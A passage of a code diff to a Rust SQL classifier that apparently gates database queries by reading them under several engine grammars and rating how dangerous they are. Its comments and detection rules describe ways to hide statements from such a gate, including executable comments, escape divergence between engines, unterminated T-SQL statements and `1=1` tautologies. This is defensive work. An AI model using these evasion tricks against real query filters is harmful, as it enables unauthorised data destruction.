@@ -1,15 +1,67 @@
 //! SQL statement classification for the `db.query` normalizer.
 //!
-//! The text is tokenized (comments, string literals, quoted identifiers and
-//! dollar-quoted bodies are understood), split into statements on `;`, and
-//! each statement — and each parenthesized sub-statement that starts with a
-//! verb, such as a data-modifying CTE — is classified. The most dangerous
-//! statement wins.
+//! The text is read the way the database will read it: tokenized and parsed
+//! with `sqlparser` under the grammar of the engine the tool talks to, or,
+//! when the engine is not known, under every engine it could be (Postgres,
+//! MySQL, SQLite, SQL Server) — the most dangerous reading wins, since an
+//! attacker picks the reading that hides a statement from the gate (`\'`
+//! ends a string in one engine and not in another, `$$` quotes only in
+//! Postgres, `#` comments only in MySQL, `/*! … */` runs only in MySQL).
 //!
-//! A backslash inside a string literal escapes the quote in MySQL but not in
-//! standard SQL; an attacker can hide a statement from either reading. The
-//! text is therefore classified under both readings and the more dangerous
-//! result is kept. MySQL executable comments (`/*! … */`) are read as code.
+//! Every statement of a call is classified, and every statement nested in
+//! one (a data-modifying CTE, `EXPLAIN ANALYZE`, `PREPARE`); every function
+//! called anywhere is looked up in a table of functions with side effects
+//! (files, network, processes, extensions, settings, other sessions). A
+//! WHERE clause is folded as a constant expression: one every row meets
+//! (`1=1 AND 2=2`, `2>1`, `NOT 0`, `'a'='a'`, `x = x`, `… OR 1=1`) is no
+//! WHERE at all.
+//!
+//! Whatever cannot be placed escalates as `other`: a statement no engine's
+//! grammar parses, an unknown statement, a text longer than [`max_len`]
+//! (256 KiB in one grammar, 64 KiB in four), nested deeper than
+//! [`MAX_DEPTH`] or with more than [`MAX_OPERATORS`] operators in a
+//! statement ("too large to classify"). The cost is linear in the text: the
+//! tokenizer is, the nesting and operator limits are checked on the tokens
+//! before the parser runs (so no tree deeper than they allow is built), and
+//! the parser's recursion is bounded too.
+//!
+//! Each text is analysed once per bind: the five builtins that read a
+//! statement (`sql_kind`, `sql_class`, …) share one analysis through a
+//! one-entry per-thread cache keyed by the text and the engine.
+
+use sqlparser::ast::{
+    BinaryOperator, CopyTarget, Expr, InTarget, ObjectName, ObjectNamePart, Query, Select, SetExpr,
+    Statement, TableFactor, UnaryOperator, Value, Visit, Visitor,
+};
+use sqlparser::dialect::{
+    BigQueryDialect, Dialect, MsSqlDialect, MySqlDialect, PostgreSqlDialect, SQLiteDialect,
+    SnowflakeDialect,
+};
+use sqlparser::parser::{Parser, ParserOptions};
+use sqlparser::tokenizer::{Token, Tokenizer, Whitespace};
+use std::cell::RefCell;
+use std::ops::ControlFlow;
+use std::rc::Rc;
+
+/// Bytes read across all readings of a text: a text longer than this
+/// (256 KiB read as one engine, 64 KiB read as four) is not classified —
+/// `other`, escalated "too large to classify". The parser takes about
+/// 0.1 µs a byte, so every text is decided within tens of milliseconds.
+pub const MAX_LEN: usize = 256 << 10;
+
+/// The longest text classified when read as `engine` (every engine: `None`).
+pub fn max_len(engine: Option<Engine>) -> usize {
+    match engine {
+        Some(_) => MAX_LEN,
+        None => MAX_LEN / ANY_ENGINE.len(),
+    }
+}
+/// Parentheses (and `[`/`{`) nested deeper than this: `other`, escalated.
+pub const MAX_DEPTH: usize = 24;
+/// Operators in one statement beyond this: `other`, escalated. A chain of
+/// `a OR b OR …` parses to a tree as deep as it is long, which the
+/// parser's recursion limit does not see.
+pub const MAX_OPERATORS: usize = 512;
 
 /// What a statement does, from least to most dangerous.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
@@ -43,705 +95,1202 @@ pub struct Analysis {
     pub class: Class,
     /// `db.query.statement_kind`: select, insert, update, delete, ddl, other.
     pub kind: &'static str,
+    /// Some statement deletes or overwrites rows, drops or runs code.
     pub destructive: bool,
     /// The deciding statement has a (non-trivial) top-level WHERE.
     pub has_where: bool,
     pub tables: Vec<String>,
+    /// Why the text was not classified (too large, too deep), if it was not.
+    pub unclassified: Option<&'static str>,
 }
 
-#[derive(Clone, Debug, PartialEq)]
-enum Tok {
-    /// An unquoted word, uppercased.
-    Word(String),
-    /// A quoted identifier, as written.
-    Ident(String),
-    Str(String),
-    Num(String),
-    LParen,
-    RParen,
-    Semi,
-    Comma,
-    Dot,
-    /// Any other operator or punctuation run (`=`, `<>`, `::`, `?`).
-    Op(String),
-}
-
-/// How one engine reads the text; engines differ, and an attacker picks the
-/// reading that hides a statement from the gate.
-#[derive(Clone, Copy)]
-struct Dialect {
-    /// `\'` escapes a quote inside a string (MySQL).
-    backslash_escapes: bool,
-    /// `#` starts a comment (MySQL) rather than being an operator.
-    hash_comments: bool,
-    /// `--` starts a comment only when followed by whitespace (MySQL).
-    dash_needs_space: bool,
-    /// `/* /* */ */` nests (Postgres).
-    nested_comments: bool,
-}
-
-fn tokenize(src: &str, dialect: Dialect) -> Vec<Tok> {
-    let Dialect {
-        backslash_escapes,
-        hash_comments,
-        dash_needs_space,
-        nested_comments,
-    } = dialect;
-    let cs: Vec<char> = src.chars().collect();
-    let at = |i: usize| cs.get(i).copied();
-    let mut out = Vec::new();
-    let mut i = 0;
-    let mut exec_comments = 0usize;
-    while let Some(c) = at(i) {
-        let next = at(i + 1);
-        if c.is_whitespace() {
-            i += 1;
-        } else if (c == '-'
-            && next == Some('-')
-            && (!dash_needs_space || at(i + 2).is_none_or(char::is_whitespace)))
-            || (c == '#' && hash_comments)
-        {
-            while at(i).is_some_and(|c| c != '\n') {
-                i += 1;
-            }
-        } else if c == '/' && next == Some('*') && at(i + 2) == Some('!') {
-            // MySQL runs the inside of `/*!40000 … */`.
-            i += 3;
-            while at(i).is_some_and(|c| c.is_ascii_digit()) {
-                i += 1;
-            }
-            exec_comments += 1;
-        } else if c == '*' && next == Some('/') && exec_comments > 0 {
-            exec_comments -= 1;
-            i += 2;
-        } else if c == '/' && next == Some('*') {
-            let mut depth = 0usize;
-            while i < cs.len() {
-                if at(i) == Some('/') && at(i + 1) == Some('*') && (depth == 0 || nested_comments) {
-                    depth += 1;
-                    i += 2;
-                } else if at(i) == Some('*') && at(i + 1) == Some('/') {
-                    depth = depth.saturating_sub(1);
-                    i += 2;
-                    if depth == 0 {
-                        break;
-                    }
-                } else {
-                    i += 1;
-                }
-            }
-        } else if c == '\'' {
-            let mut s = String::new();
-            i += 1;
-            while let Some(d) = at(i) {
-                if d == '\\' && backslash_escapes {
-                    if let Some(e) = at(i + 1) {
-                        s.push(e);
-                    }
-                    i += 2;
-                } else if d == '\'' {
-                    if at(i + 1) == Some('\'') {
-                        s.push('\'');
-                        i += 2;
-                    } else {
-                        i += 1;
-                        break;
-                    }
-                } else {
-                    s.push(d);
-                    i += 1;
-                }
-            }
-            out.push(Tok::Str(s));
-        } else if c == '"' || c == '`' || c == '[' {
-            let close = if c == '[' { ']' } else { c };
-            let mut s = String::new();
-            i += 1;
-            while let Some(d) = at(i) {
-                if d == close {
-                    if at(i + 1) == Some(close) && close != ']' {
-                        s.push(d);
-                        i += 2;
-                        continue;
-                    }
-                    i += 1;
-                    break;
-                }
-                s.push(d);
-                i += 1;
-            }
-            out.push(Tok::Ident(s));
-        } else if c == '$' && next.is_some_and(|n| n == '$' || n.is_alphabetic() || n == '_') {
-            // Dollar quoting: `$tag$ … $tag$`.
-            let mut j = i + 1;
-            while at(j).is_some_and(|d| d.is_alphanumeric() || d == '_') {
-                j += 1;
-            }
-            if at(j) == Some('$') {
-                let tag: String = cs.get(i..=j).unwrap_or_default().iter().collect();
-                let tag_chars: Vec<char> = tag.chars().collect();
-                let mut k = j + 1;
-                let mut body = String::new();
-                loop {
-                    match cs.get(k..k + tag_chars.len()) {
-                        Some(w) if w == tag_chars.as_slice() => {
-                            k += tag_chars.len();
-                            break;
-                        }
-                        Some(_) => {
-                            if let Some(d) = at(k) {
-                                body.push(d);
-                            }
-                            k += 1;
-                        }
-                        None => {
-                            k = cs.len();
-                            break;
-                        }
-                    }
-                }
-                out.push(Tok::Str(body));
-                i = k;
-            } else {
-                out.push(Tok::Op("$".into()));
-                i += 1;
-            }
-        } else if c.is_alphabetic() || c == '_' {
-            let mut w = String::new();
-            while let Some(d) = at(i).filter(|d| d.is_alphanumeric() || *d == '_' || *d == '$') {
-                w.push(d);
-                i += 1;
-            }
-            out.push(Tok::Word(w.to_uppercase()));
-        } else if c.is_ascii_digit() {
-            let mut w = String::new();
-            while let Some(d) = at(i).filter(|d| d.is_ascii_alphanumeric() || *d == '.') {
-                w.push(d);
-                i += 1;
-            }
-            out.push(Tok::Num(w));
-        } else {
-            i += 1;
-            out.push(match c {
-                '(' => Tok::LParen,
-                ')' => Tok::RParen,
-                ';' => Tok::Semi,
-                ',' => Tok::Comma,
-                '.' => Tok::Dot,
-                _ => {
-                    let mut op = c.to_string();
-                    while let Some(d) = at(i).filter(|d| "=<>!|&:~^+-*/%@".contains(*d)) {
-                        op.push(d);
-                        i += 1;
-                    }
-                    Tok::Op(op)
-                }
-            });
+impl Analysis {
+    fn unclassified(why: &'static str) -> Analysis {
+        Analysis {
+            class: Class::Other,
+            kind: "other",
+            destructive: false,
+            has_where: false,
+            tables: Vec::new(),
+            unclassified: Some(why),
         }
     }
-    out
 }
 
-fn is_word(t: Option<&Tok>, w: &str) -> bool {
-    matches!(t, Some(Tok::Word(x)) if x == w)
+/// The database engines whose grammar the classifier knows.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
+pub enum Engine {
+    Postgres,
+    MySql,
+    Sqlite,
+    MsSql,
+    BigQuery,
+    Snowflake,
 }
 
-const VERBS: &[&str] = &[
-    "SELECT", "INSERT", "UPDATE", "DELETE", "MERGE", "WITH", "VALUES", "TABLE",
+/// The readings of a text whose engine is unknown.
+const ANY_ENGINE: &[Engine] = &[
+    Engine::Postgres,
+    Engine::MySql,
+    Engine::Sqlite,
+    Engine::MsSql,
 ];
 
+static POSTGRES: PostgreSqlDialect = PostgreSqlDialect {};
+static MYSQL: MySqlDialect = MySqlDialect {};
+static SQLITE: SQLiteDialect = SQLiteDialect {};
+static MSSQL: MsSqlDialect = MsSqlDialect {};
+static BIGQUERY: BigQueryDialect = BigQueryDialect {};
+static SNOWFLAKE: SnowflakeDialect = SnowflakeDialect {};
+
+impl Engine {
+    /// `postgres`, `MySQL`, `mariadb`, `sqlite3`, `sqlserver`, … ; any other
+    /// name is not known, and the text is read under every engine.
+    pub fn from_name(name: &str) -> Option<Engine> {
+        Some(match name.trim().to_ascii_lowercase().as_str() {
+            "postgres" | "postgresql" | "pg" | "redshift" | "cockroachdb" => Engine::Postgres,
+            "mysql" | "mariadb" => Engine::MySql,
+            "sqlite" | "sqlite3" => Engine::Sqlite,
+            "mssql" | "sqlserver" | "sql_server" | "tsql" | "azuresql" => Engine::MsSql,
+            "bigquery" => Engine::BigQuery,
+            "snowflake" => Engine::Snowflake,
+            _ => return None,
+        })
+    }
+
+    fn dialect(self) -> &'static dyn Dialect {
+        match self {
+            Engine::Postgres => &POSTGRES,
+            Engine::MySql => &MYSQL,
+            Engine::Sqlite => &SQLITE,
+            Engine::MsSql => &MSSQL,
+            Engine::BigQuery => &BIGQUERY,
+            Engine::Snowflake => &SNOWFLAKE,
+        }
+    }
+}
+
 /// One classified statement.
+#[derive(Clone, Copy, Debug)]
 struct Stmt {
     class: Class,
     kind: &'static str,
     has_where: bool,
 }
 
-/// The tokens of `toks` at paren depth 0 (relative), with the indices of the
-/// `(` that open each top-level group.
-fn top_level(toks: &[Tok]) -> (Vec<&Tok>, Vec<usize>) {
-    let mut depth = 0usize;
-    let mut top = Vec::new();
-    let mut groups = Vec::new();
-    for (i, t) in toks.iter().enumerate() {
-        match t {
-            Tok::LParen => {
-                if depth == 0 {
-                    groups.push(i);
-                    top.push(t);
-                }
-                depth += 1;
-            }
-            Tok::RParen => {
-                depth = depth.saturating_sub(1);
-                if depth == 0 {
-                    top.push(t);
-                }
-            }
-            _ if depth == 0 => top.push(t),
-            _ => {}
-        }
-    }
-    (top, groups)
-}
-
-/// The tokens inside the group opened at `open`.
-fn group(toks: &[Tok], open: usize) -> &[Tok] {
-    let mut depth = 0usize;
-    for (i, t) in toks.iter().enumerate().skip(open) {
-        match t {
-            Tok::LParen => depth += 1,
-            Tok::RParen => {
-                depth = depth.saturating_sub(1);
-                if depth == 0 {
-                    return toks.get(open + 1..i).unwrap_or_default();
-                }
-            }
-            _ => {}
-        }
-    }
-    toks.get(open + 1..).unwrap_or_default()
-}
-
-/// `WHERE 1=1`, `WHERE true`, `WHERE x = x OR …`: a condition every row meets.
-fn trivial_where(cond: &[&Tok]) -> bool {
-    let clause_end = ["RETURNING", "ORDER", "LIMIT", "GROUP", "HAVING", "OFFSET"];
-    let cond: Vec<&Tok> = cond
-        .iter()
-        .copied()
-        .take_while(|t| !matches!(t, Tok::Word(w) if clause_end.contains(&w.as_str())))
-        .collect();
-    cond.split(|t| matches!(t, Tok::Word(w) if w == "OR"))
-        .any(|d| {
-            let d: Vec<&Tok> = d
-                .iter()
-                .copied()
-                .filter(|t| !matches!(t, Tok::LParen | Tok::RParen))
-                .collect();
-            match d.as_slice() {
-                [] => true,
-                [Tok::Word(w)] => w == "TRUE",
-                [Tok::Num(n)] => n.chars().any(|c| c.is_ascii_digit() && c != '0'),
-                [Tok::Word(not), Tok::Word(f)] if not == "NOT" => f == "FALSE" || f == "NULL",
-                [a, Tok::Op(op), b] => {
-                    (a == b && matches!(op.as_str(), "=" | "==" | ">=" | "<=" | "<=>"))
-                        || (matches!(
-                            (a, b),
-                            (Tok::Str(_), Tok::Str(_)) | (Tok::Num(_), Tok::Num(_))
-                        ) && a != b
-                            && matches!(op.as_str(), "<>" | "!="))
-                }
-                [a, Tok::Word(like), Tok::Str(p)] if like == "LIKE" => {
-                    !matches!(a, Tok::Str(_)) && p.chars().all(|c| c == '%')
-                }
-                _ => false,
-            }
-        })
-}
-
-/// Table names after FROM, JOIN, INTO, UPDATE, TABLE, TRUNCATE.
-fn tables(toks: &[Tok], out: &mut Vec<String>) {
-    let skip = [
-        "IF",
-        "NOT",
-        "EXISTS",
-        "ONLY",
-        "TABLE",
-        "LOW_PRIORITY",
-        "IGNORE",
-        "QUICK",
-    ];
-    let mut i = 0;
-    while let Some(t) = toks.get(i) {
-        i += 1;
-        let Tok::Word(w) = t else { continue };
-        if !matches!(
-            w.as_str(),
-            "FROM" | "JOIN" | "INTO" | "UPDATE" | "TABLE" | "TRUNCATE" | "USING"
-        ) {
-            continue;
-        }
-        if w == "UPDATE"
-            && matches!(toks.get(i.wrapping_sub(2)), Some(Tok::Word(p)) if p == "FOR" || p == "ON" || p == "DO")
-        {
-            continue;
-        }
-        loop {
-            while matches!(toks.get(i), Some(Tok::Word(x)) if skip.contains(&x.as_str())) {
-                i += 1;
-            }
-            let mut name = String::new();
-            loop {
-                match toks.get(i) {
-                    Some(Tok::Word(x)) if !is_keyword(x) => name.push_str(&x.to_lowercase()),
-                    Some(Tok::Ident(x)) => name.push_str(x),
-                    _ => break,
-                }
-                i += 1;
-                if matches!(toks.get(i), Some(Tok::Dot)) {
-                    name.push('.');
-                    i += 1;
-                } else {
-                    break;
-                }
-            }
-            if !name.is_empty() && !out.contains(&name) {
-                out.push(name);
-            }
-            // `FROM a, b` and `DROP TABLE a, b`: skip an alias, then a comma.
-            while matches!(toks.get(i), Some(Tok::Word(x)) if !is_keyword(x))
-                || matches!(toks.get(i), Some(Tok::Ident(_)))
-                || is_word(toks.get(i), "AS")
-            {
-                i += 1;
-            }
-            if matches!(toks.get(i), Some(Tok::Comma)) && w != "INTO" {
-                i += 1;
-            } else {
-                break;
-            }
-        }
-    }
-}
-
-fn is_keyword(w: &str) -> bool {
-    const KW: &[&str] = &[
-        "SELECT",
-        "FROM",
-        "WHERE",
-        "JOIN",
-        "LEFT",
-        "RIGHT",
-        "INNER",
-        "OUTER",
-        "FULL",
-        "CROSS",
-        "ON",
-        "USING",
-        "GROUP",
-        "ORDER",
-        "BY",
-        "LIMIT",
-        "OFFSET",
-        "HAVING",
-        "UNION",
-        "ALL",
-        "SET",
-        "VALUES",
-        "RETURNING",
-        "AS",
-        "WITH",
-        "INTO",
-        "AND",
-        "OR",
-        "NOT",
-        "CASCADE",
-        "RESTRICT",
-        "NATURAL",
-        "LATERAL",
-        "WINDOW",
-        "FOR",
-        "DEFAULT",
-        "SELECT",
-        "DELETE",
-        "UPDATE",
-        "INSERT",
-        "IF",
-        "EXISTS",
-        "ONLY",
-        "TABLE",
-        "OVERWRITE",
-        "PARTITION",
-    ];
-    KW.contains(&w)
-}
-
-fn stmt(toks: &[Tok], found: &mut Vec<Stmt>, tabs: &mut Vec<String>) {
-    if toks.is_empty() {
-        return;
-    }
-    tables(toks, tabs);
-    let (top, groups) = top_level(toks);
-    // Sub-statements in parentheses: `WITH d AS (DELETE FROM t …)`,
-    // `INSERT INTO t (SELECT …)`, `EXPLAIN (…)`.
-    for g in groups {
-        let inner = group(toks, g);
-        let starts_with_verb = match inner.first() {
-            Some(Tok::Word(w)) => VERBS.contains(&w.as_str()),
-            _ => false,
-        };
-        if starts_with_verb {
-            stmt(inner, found, &mut Vec::new());
+impl Stmt {
+    fn max_other(self) -> Stmt {
+        if self.class < Class::Other {
+            Stmt::new(Class::Other, "other")
         } else {
-            // Nested groups deeper down, e.g. `(( DELETE … ))`.
-            for (i, t) in inner.iter().enumerate() {
-                if *t == Tok::LParen {
-                    if let Some(Tok::Word(w)) = group(inner, i).first() {
-                        if VERBS.contains(&w.as_str()) && w != "SELECT" {
-                            stmt(group(inner, i), found, &mut Vec::new());
-                        }
-                    }
-                }
-            }
+            self
         }
     }
-    let words: Vec<&str> = top
-        .iter()
-        .filter_map(|t| match t {
-            Tok::Word(w) => Some(w.as_str()),
-            _ => None,
-        })
-        .collect();
-    let has = |w: &str| words.contains(&w);
-    // `WITH … AS (…) DELETE …`: the verb is the first top-level verb after
-    // the CTEs; anything else leads with its first word.
-    let lead = match words.first() {
-        Some(&"WITH") => words
-            .iter()
-            .copied()
-            .find(|w| {
-                matches!(
-                    *w,
-                    "SELECT" | "INSERT" | "UPDATE" | "DELETE" | "MERGE" | "VALUES"
-                )
-            })
-            .unwrap_or("SELECT"),
-        Some(w) => w,
-        None => {
-            // Only a parenthesized query, e.g. `(SELECT 1)`.
-            return;
+
+    fn new(class: Class, kind: &'static str) -> Stmt {
+        Stmt {
+            class,
+            kind,
+            has_where: false,
         }
-    };
-    let where_pos = top
-        .iter()
-        .position(|t| matches!(t, Tok::Word(w) if w == "WHERE"));
-    let has_where = match where_pos {
-        Some(p) => !trivial_where(top.get(p + 1..).unwrap_or_default()),
-        None => false,
-    };
-    let second = words.get(1).copied().unwrap_or("");
-    let (class, kind) = match lead {
-        "SELECT" | "VALUES" | "TABLE" => {
-            if has("OUTFILE") || has("DUMPFILE") {
-                (Class::Other, "select")
-            } else if has("INTO") {
-                (Class::Write, "select")
-            } else {
-                (Class::Read, "select")
-            }
+    }
+}
+
+#[derive(Default)]
+struct Found {
+    stmts: Vec<Stmt>,
+    tables: Vec<String>,
+    unclassified: Option<&'static str>,
+}
+
+impl Found {
+    fn table(&mut self, name: String) {
+        if !name.is_empty() && !self.tables.contains(&name) {
+            self.tables.push(name);
         }
-        "SHOW" | "DESCRIBE" | "DESC" => (Class::Read, "other"),
-        "EXPLAIN" => {
-            // `EXPLAIN ANALYZE` runs the statement: classify what follows.
-            let rest: Vec<Tok> = toks
-                .iter()
-                .skip(1)
-                .skip_while(|t| match t {
-                    Tok::Word(w) => !VERBS.contains(&w.as_str()) && !is_ddl(w),
-                    _ => true,
-                })
-                .cloned()
-                .collect();
-            let mut sub = Vec::new();
-            stmt(&rest, &mut sub, &mut Vec::new());
-            match sub.into_iter().max_by_key(|s| s.class) {
-                Some(s) if has("ANALYZE") => (s.class, s.kind),
-                Some(s) => (Class::Read, s.kind),
-                None => (Class::Read, "other"),
-            }
-        }
-        "PRAGMA" => {
-            if top.iter().any(|t| matches!(t, Tok::Op(o) if o == "=")) {
-                (Class::Other, "other")
-            } else {
-                (Class::Read, "other")
-            }
-        }
-        "INSERT" | "REPLACE" | "UPSERT" => {
-            if has("OVERWRITE") {
-                (Class::Destructive, "insert")
-            } else {
-                (Class::Write, "insert")
-            }
-        }
-        "LOAD" => (Class::Write, "insert"),
-        "COPY" => {
-            if has("PROGRAM") {
-                (Class::Other, "other")
-            } else if has("FROM") {
-                (Class::Write, "insert")
-            } else {
-                (Class::Read, "select")
-            }
-        }
-        "MERGE" => (Class::Write, "update"),
-        "UPDATE" => {
-            if has_where {
-                (Class::Write, "update")
-            } else {
-                (Class::Destructive, "update")
-            }
-        }
-        "DELETE" => {
-            if has_where {
-                (Class::Write, "delete")
-            } else {
-                (Class::Destructive, "delete")
-            }
-        }
-        "DROP" | "TRUNCATE" | "PURGE" => (Class::Destructive, "ddl"),
-        "ALTER" => {
-            if matches!(second, "USER" | "ROLE" | "LOGIN" | "GROUP") || has("OWNER") {
-                (Class::Privilege, "ddl")
-            } else if has("DROP") || has("TRUNCATE") {
-                (Class::Destructive, "ddl")
-            } else {
-                (Class::Schema, "ddl")
-            }
-        }
-        "CREATE" => {
-            if has("USER") || has("ROLE") || has("LOGIN") {
-                (Class::Privilege, "ddl")
-            } else {
-                (Class::Schema, "ddl")
-            }
-        }
-        "RENAME" | "COMMENT" => (Class::Schema, "ddl"),
-        "GRANT" | "REVOKE" | "DENY" => (Class::Privilege, "other"),
-        "SET" => {
-            if matches!(second, "ROLE" | "SESSION" | "GLOBAL" | "PASSWORD") && !has("TRANSACTION") {
-                (Class::Privilege, "other")
-            } else {
-                (Class::Control, "other")
-            }
-        }
-        "BEGIN" | "START" | "COMMIT" | "END" | "ROLLBACK" | "SAVEPOINT" | "RELEASE" | "USE"
-        | "RESET" | "ANALYZE" | "VACUUM" | "REINDEX" | "CHECKPOINT" | "LOCK" | "UNLOCK"
-        | "DISCARD" | "LISTEN" | "UNLISTEN" | "NOTIFY" | "DEALLOCATE" | "FETCH" | "CLOSE"
-        | "DECLARE" | "PREPARE" => (Class::Control, "other"),
-        _ => (Class::Other, "other"),
-    };
-    found.push(Stmt {
-        class,
-        kind,
-        has_where,
+    }
+}
+
+/// The last text analysed on a thread: its engine, text and analysis.
+type Cached = (Option<Engine>, Rc<str>, Rc<Analysis>);
+
+thread_local! {
+    static ANALYSES: std::cell::Cell<u64> = const { std::cell::Cell::new(0) };
+    static LAST: RefCell<Option<Cached>> = const { RefCell::new(None) };
+}
+
+/// The analysis of `src` read as `engine` (every engine when `None`),
+/// shared by the builtins of one bind: the last text analysed on this
+/// thread is kept.
+pub fn analyze_for(src: &str, engine: Option<Engine>) -> Rc<Analysis> {
+    if src.len() > max_len(engine) {
+        return Rc::new(Analysis::unclassified("too large to classify"));
+    }
+    let hit = LAST.with(|l| {
+        l.borrow()
+            .as_ref()
+            .and_then(|(e, text, a)| (*e == engine && **text == *src).then(|| Rc::clone(a)))
     });
+    if let Some(a) = hit {
+        return a;
+    }
+    let a = Rc::new(compute(src, engine));
+    LAST.with(|l| *l.borrow_mut() = Some((engine, Rc::from(src), Rc::clone(&a))));
+    a
 }
 
-fn is_ddl(w: &str) -> bool {
-    matches!(
-        w,
-        "DROP" | "TRUNCATE" | "ALTER" | "CREATE" | "GRANT" | "REVOKE"
-    )
+/// The analysis of `src`, computed afresh (for benchmarks and tests).
+pub fn analyze_uncached(src: &str, engine: Option<Engine>) -> Analysis {
+    compute(src, engine)
 }
 
-/// T-SQL runs `SELECT 1 DROP TABLE t` as two statements: a statement verb
-/// at the top level starts a new statement unless a clause word before it
-/// makes it part of this one (`FOR UPDATE`, `ON DELETE`, `GRANT INSERT, …`).
-fn split_unterminated(toks: &[Tok]) -> Vec<&[Tok]> {
-    const STARTERS: &[&str] = &[
-        "DROP", "TRUNCATE", "DELETE", "UPDATE", "INSERT", "MERGE", "GRANT", "REVOKE", "ALTER",
-        "CREATE", "EXEC", "EXECUTE", "CALL", "COPY", "SHUTDOWN", "RENAME",
-    ];
-    const BINDS: &[&str] = &[
-        "FOR", "ON", "DO", "THEN", "BEFORE", "AFTER", "OF", "INSTEAD", "GRANT", "REVOKE", "DENY",
-        "AS", "OR", "IF", "NOT", "EXPLAIN", "ANALYZE", "VERBOSE", "WITH", "ALTER", "ADD",
-    ];
-    let mut parts = Vec::new();
-    let mut start = 0;
-    let mut depth = 0usize;
-    for (i, t) in toks.iter().enumerate() {
-        match t {
-            Tok::LParen => depth += 1,
-            Tok::RParen => depth = depth.saturating_sub(1),
-            Tok::Word(w) if depth == 0 && i > start && STARTERS.contains(&w.as_str()) => {
-                let bound = match toks.get(i - 1) {
-                    Some(Tok::Word(p)) => BINDS.contains(&p.as_str()),
-                    Some(Tok::Comma) => true,
-                    _ => false,
-                };
-                if !bound {
-                    parts.push(toks.get(start..i).unwrap_or_default());
-                    start = i;
-                }
-            }
-            _ => {}
+/// The analysis of `src` under every engine's reading.
+pub fn analyze(src: &str) -> Analysis {
+    (*analyze_for(src, None)).clone()
+}
+
+/// How many texts this thread has analysed (not served from the cache).
+pub fn analyses() -> u64 {
+    ANALYSES.with(|c| c.get())
+}
+
+fn compute(src: &str, engine: Option<Engine>) -> Analysis {
+    ANALYSES.with(|c| c.set(c.get() + 1));
+    if src.len() > max_len(engine) {
+        return Analysis::unclassified("too large to classify");
+    }
+    let engines: &[Engine] = match &engine {
+        Some(e) => std::slice::from_ref(e),
+        None => ANY_ENGINE,
+    };
+    let mut found = Found::default();
+    let mut readings = Vec::with_capacity(engines.len());
+    for e in engines {
+        if let Some(r) = read(src, *e, engines.len() > 1, &mut found) {
+            readings.push(r);
         }
     }
-    parts.push(toks.get(start..).unwrap_or_default());
-    parts
-}
-
-fn analyze_once(src: &str, dialect: Dialect) -> Analysis {
-    let toks = tokenize(src, dialect);
-    let mut found = Vec::new();
-    let mut tabs = Vec::new();
-    for s in toks.split(|t| *t == Tok::Semi) {
-        for part in split_unterminated(s) {
-            stmt(part, &mut found, &mut tabs);
+    let read_any = !readings.is_empty();
+    // A statement one grammar refuses counts as `other` — unless another
+    // engine tokenized the text into the very same tokens and parsed them:
+    // then the engines see the same statements, and the refusal is a gap in
+    // the grammar (`?` placeholders, `LIMIT 10, 20`), not a divergence an
+    // attacker could hide a statement in.
+    if readings.iter().any(|r| !r.failed.is_empty()) {
+        let signatures: Vec<Option<u64>> = readings.iter().map(signature).collect();
+        let parsed: Vec<u64> = readings
+            .iter()
+            .zip(&signatures)
+            .filter(|(r, _)| r.failed.is_empty())
+            .filter_map(|(_, s)| *s)
+            .collect();
+        for (r, s) in readings.into_iter().zip(signatures) {
+            if s.is_some_and(|s| parsed.contains(&s)) {
+                continue;
+            }
+            found.stmts.extend(r.failed);
         }
     }
     // The first statement of the most dangerous class decides.
     let mut worst: Option<&Stmt> = None;
-    for s in &found {
+    for s in &found.stmts {
         if worst.is_none_or(|w| s.class > w.class) {
             worst = Some(s);
         }
     }
     match worst {
-        Some(w) => Analysis {
+        Some(w) if read_any => Analysis {
             class: w.class,
             kind: w.kind,
-            destructive: found.iter().any(|s| s.class == Class::Destructive),
+            destructive: found.stmts.iter().any(|s| s.class == Class::Destructive),
             has_where: w.has_where,
-            tables: tabs,
+            tables: found.tables,
+            unclassified: found.unclassified,
         },
-        // Nothing to run: not a statement this classifier knows.
-        None => Analysis {
-            class: Class::Other,
-            kind: "other",
-            destructive: false,
-            has_where: false,
-            tables: tabs,
+        // No engine reads the text, or it holds no statement: not a
+        // statement this classifier knows.
+        _ => Analysis {
+            tables: found.tables,
+            ..Analysis::unclassified(found.unclassified.unwrap_or("no statement"))
         },
     }
 }
 
-/// Classifies a text under every engine's reading of strings and comments;
-/// the most dangerous reading wins, and the tables of all are listed.
-pub fn analyze(src: &str) -> Analysis {
-    let mut worst: Option<Analysis> = None;
-    for bits in 0u8..16 {
-        let a = analyze_once(
-            src,
-            Dialect {
-                backslash_escapes: bits & 1 != 0,
-                hash_comments: bits & 2 != 0,
-                dash_needs_space: bits & 4 != 0,
-                nested_comments: bits & 8 != 0,
-            },
-        );
-        worst = Some(match worst {
-            None => a,
-            Some(w) => {
-                let (mut w, o) = if a.class > w.class { (a, w) } else { (w, a) };
-                w.destructive |= o.destructive;
-                for t in o.tables {
-                    if !w.tables.contains(&t) {
-                        w.tables.push(t);
+/// One engine's reading of a text: the statements its grammar refused, and
+/// (when there are other readings to compare with) its tokens.
+struct Reading {
+    failed: Vec<Stmt>,
+    tokens: Option<Vec<Token>>,
+}
+
+/// A hash of a reading's tokens as written, whitespace and comments aside.
+fn signature(r: &Reading) -> Option<u64> {
+    use std::hash::{Hash, Hasher};
+    let tokens = r.tokens.as_ref()?;
+    let mut h = std::collections::hash_map::DefaultHasher::new();
+    for t in tokens.iter().filter(|t| !matches!(t, Token::Whitespace(_))) {
+        t.to_string().hash(&mut h);
+    }
+    Some(h.finish())
+}
+
+/// Reads `src` as `engine` would, adding the statements it parses to
+/// `found`. `None` when the engine's tokenizer refuses the text (an
+/// unterminated string or comment): that engine would refuse to run it too.
+fn read(src: &str, engine: Engine, compare: bool, found: &mut Found) -> Option<Reading> {
+    let dialect = engine.dialect();
+    let mut tokens = Tokenizer::new(dialect, src).tokenize().ok()?;
+    if engine == Engine::MySql {
+        // MariaDB runs `/*M! … */` like MySQL's `/*! … */` (which the
+        // tokenizer already expands).
+        if tokens
+            .iter()
+            .any(|t| matches!(t, Token::Whitespace(Whitespace::MultiLineComment(c)) if c.starts_with("M!")))
+        {
+            let mut out = Vec::with_capacity(tokens.len());
+            for t in tokens {
+                match t {
+                    Token::Whitespace(Whitespace::MultiLineComment(c)) if c.starts_with("M!") => {
+                        let inner = c
+                            .get(2..)
+                            .unwrap_or("")
+                            .trim_start_matches(|d: char| d.is_ascii_digit());
+                        out.extend(Tokenizer::new(dialect, inner).tokenize().ok()?);
